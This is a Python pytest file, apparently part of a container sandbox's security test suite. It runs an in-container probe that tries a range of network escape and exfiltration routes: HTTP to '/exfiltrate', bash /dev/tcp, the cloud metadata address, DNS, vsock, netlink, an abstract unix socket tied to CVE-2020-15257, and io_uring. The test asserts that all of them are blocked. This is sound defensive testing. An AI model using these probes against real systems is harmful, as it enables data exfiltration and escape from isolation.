"""Attack 7: the network. HTTP to a server listening on the host's loopback, DNS lookups (the
classic exfiltration channel), the cloud metadata address, an abstract unix socket on the host
(reachable from a container that shares the host's network namespace: CVE-2020-15257), every
socket family that could reach out, and io_uring (whose operations seccomp cannot see). All fail,
and the host listeners never see a connection."""

from __future__ import annotations

import socket
import threading
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest

from syft_core.jobs import Outcome
from tests.attacks.conftest import probe_job
from tests.fixtures_runner import StartRunner

pytestmark = pytest.mark.docker

NETWORK_PROGRAM = r"""
import ctypes, json, socket, subprocess, sys
port, abstract = int(sys.argv[1]), sys.argv[2]

def attempt(fn):
    try:
        fn()
        return "OK"
    except OSError as exc:
        return "%s: %s" % (type(exc).__name__, exc.strerror or exc)

def http():
    import urllib.request
    urllib.request.urlopen("http://127.0.0.1:%d/exfiltrate?d=secret" % port, timeout=3).read()

def connect(family, address, kind=socket.SOCK_STREAM):
    def run():
        with socket.socket(family, kind) as s:
            s.settimeout(3)
            s.connect(address)
    return run

def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"secret", ("127.0.0.1", port))

def alg():
    with socket.socket(38, socket.SOCK_SEQPACKET) as s:
        s.bind(("hash", "sha256"))

def io_uring():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(425, 8, ctypes.create_string_buffer(120)) < 0:
        code = ctypes.get_errno()
        raise OSError(code, __import__("os").strerror(code))

def bash_tcp():
    code = subprocess.run(["bash", "-c", "echo x > /dev/tcp/127.0.0.1/%d" % port],
                          capture_output=True, timeout=10).returncode
    if code != 0:
        raise OSError(0, "bash /dev/tcp exited %d" % code)

def getent():
    code = subprocess.run(["getent", "hosts", "example.com"], capture_output=True,
                          timeout=20).returncode
    if code != 0:
        raise OSError(0, "getent exited %d" % code)

print(json.dumps({
    "http_loopback": attempt(http),
    "bash_dev_tcp": attempt(bash_tcp),
    "udp_loopback": attempt(udp),
    "inet6_loopback": attempt(connect(socket.AF_INET6, ("::1", port))),
    "metadata": attempt(connect(socket.AF_INET, ("169.254.169.254", 80))),
    "dns": attempt(lambda: socket.getaddrinfo("example.com", 80)),
    "getent": attempt(getent),
    "vsock_host": attempt(connect(40, (2, 1234))),
    "alg": attempt(alg),
    "netlink": attempt(lambda: socket.socket(16, socket.SOCK_RAW, 0).close()),
    "abstract_unix": attempt(connect(socket.AF_UNIX, "\0" + abstract)),
    "io_uring": attempt(io_uring),
    "interfaces": sorted(__import__("os").listdir("/sys/class/net")),
}))
"""


class _Counter(BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"reached")

    def log_message(self, format: str, *args: object) -> None:
        return


@pytest.fixture
def loopback_server() -> Iterator[tuple[ThreadingHTTPServer, list[str]]]:
    hits: list[str] = []
    handler = type("Handler", (_Counter,), {"hits": hits})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server, hits
    server.shutdown()
    server.server_close()


@pytest.fixture
def abstract_listener() -> Iterator[tuple[str, list[int]]]:
    name = f"h8-{uuid.uuid4().hex[:8]}"
    accepted: list[int] = []
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("\0" + name)
    listener.listen()
    listener.settimeout(0.2)
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            accepted.append(1)
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield name, accepted
    stop.set()
    thread.join(2)
    listener.close()


def test_no_way_out(
    syftbox: Path,
    start_runner: StartRunner,
    loopback_server: tuple[ThreadingHTTPServer, list[str]],
    abstract_listener: tuple[str, list[int]],
) -> None:
    server, hits = loopback_server
    port = server.server_address[1]
    name, accepted = abstract_listener
    job, done, report = probe_job(
        syftbox, start_runner, "network", NETWORK_PROGRAM, args=f"{port} {name}"
    )
    assert done.outcome is Outcome.SUCCEEDED, job.stderr_path.read_text()
    assert report.pop("interfaces") == ["lo"]
    for attack, result in report.items():
        assert not result.startswith("OK"), f"{attack} succeeded"
    for family in ("http_loopback", "udp_loopback", "inet6_loopback", "metadata", "vsock_host"):
        assert "Operation not permitted" in report[family], (family, report[family])
    for family in ("alg", "netlink", "io_uring"):
        assert "Operation not permitted" in report[family], (family, report[family])
    assert hits == [] and accepted == []
